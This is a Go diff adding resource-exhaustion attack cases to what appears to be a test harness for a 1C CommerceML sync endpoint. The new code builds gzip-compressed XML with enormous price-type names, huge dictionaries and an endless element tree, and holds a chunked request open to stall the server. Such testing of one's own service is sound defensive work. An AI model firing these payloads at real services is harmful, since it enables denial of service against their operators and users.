@@ -3,6 +3,7 @@ package main
 import (
 	"archive/zip"
 	"bytes"
+	"compress/gzip"
 	"context"
 	"errors"
 	"fmt"
@@ -19,6 +20,8 @@ const spoolAttack = "S-M7"
 
 func exchangeAttacks() []attack {
 	return []attack{
+		{"S-C1", "files of 1C with long price types and large dictionaries, gzip", false, attackTexts},
+		{"S-H1", "orders of 1C that are trees of empty elements and never end", false, attackTrees},
 		{"S-H3", "imports of unknown names beside archives with 190,000 files", false, attackArchives},
 		{"S-M5", "failed items of 1 MiB, gzip", false, attackRejects},
 		{spoolAttack, "files of 1C that are never imported", false, attackWaitingFiles},
@@ -42,6 +45,61 @@ func (a *attacker) callOneC(ctx context.Context, token, mode, file string, body 
 		return fmt.Sprint(status)
 	}
 	return line
+}
+
+// importOneC sends a file that is compressed with gzip, and asks for its import until that ends.
+func (a *attacker) importOneC(ctx context.Context, name string, packed []byte) {
+	token := a.attacked.ExchangeToken
+	a.callOneC(ctx, token, "init", "", nil)
+	a.callOneC(ctx, token, "file", name, packed, header{"Content-Encoding", "gzip"})
+	for ctx.Err() == nil && a.callOneC(ctx, token, "import", name, nil) == "progress" {
+		time.Sleep(100 * time.Millisecond)
+	}
+}
+
+// attackTexts imports a file with 60 price types whose names have 8 MiB, and one with eight dictionaries of 100,000
+// values. The program held, and stored, all of it.
+func attackTexts(ctx context.Context, a *attacker) error {
+	const start = `<?xml version="1.0" encoding="UTF-8"?><КоммерческаяИнформация ВерсияСхемы="2.08">`
+	types := gzipped(func(w io.Writer) {
+		name := strings.Repeat("x", 8<<20-1000)
+		_, _ = io.WriteString(w, start+`<ПакетПредложений><Ид>p</Ид><ТипыЦен>`)
+		for i := range 60 {
+			_, _ = fmt.Fprintf(w, `<ТипЦены><Ид>%d</Ид><Наименование>%s</Наименование></ТипЦены>`, i, name)
+		}
+		_, _ = io.WriteString(w, `</ТипыЦен></ПакетПредложений></КоммерческаяИнформация>`)
+	})
+	dictionaries := gzipped(func(w io.Writer) {
+		_, _ = io.WriteString(w, start+`<Классификатор><Ид>c</Ид><Свойства>`)
+		for i := range 8 {
+			_, _ = fmt.Fprintf(w, `<Свойство><Ид>s%d</Ид><Наименование>S%d</Наименование>`+
+				`<ТипЗначений>Справочник</ТипЗначений><ВариантыЗначений>`, i, i)
+			for n := range 100_000 {
+				_, _ = fmt.Fprintf(w, `<Справочник><ИдЗначения>%d-%036d</ИдЗначения><Значение>Value %d</Значение></Справочник>`, i, n, n)
+			}
+			_, _ = io.WriteString(w, `</ВариантыЗначений></Свойство>`)
+		}
+		_, _ = io.WriteString(w, `</Свойства></Классификатор></КоммерческаяИнформация>`)
+	})
+
+	a.importOneC(ctx, "offers.xml", types)
+	a.importOneC(ctx, "import.xml", dictionaries)
+	return nil
+}
+
+// attackTrees sends orders of two million elements each, some 8 KB compressed, and keeps their requests open.
+func attackTrees(ctx context.Context, a *attacker) error {
+	var packed bytes.Buffer
+	z := gzip.NewWriter(&packed)
+	_, err := io.WriteString(z, `<КоммерческаяИнформация ВерсияСхемы="2.08"><Документ>`+strings.Repeat("<a/>", 2_000_000))
+	if err := errors.Join(err, z.Flush()); err != nil { // the file has no end
+		return err
+	}
+	text := fmt.Sprintf("POST /v2/sync-gate/%s/commerceml?type=sale&mode=file&filename=orders.xml HTTP/1.1\r\nHost: %s\r\n"+
+		"Content-Type: application/xml\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n",
+		a.attacked.ExchangeToken, a.api, packed.Len(), packed.String())
+	a.stall(ctx, a.api, 40, []byte(text), "", 0)
+	return nil
 }
 
 // archiveOf returns an archive whose entries write adds.
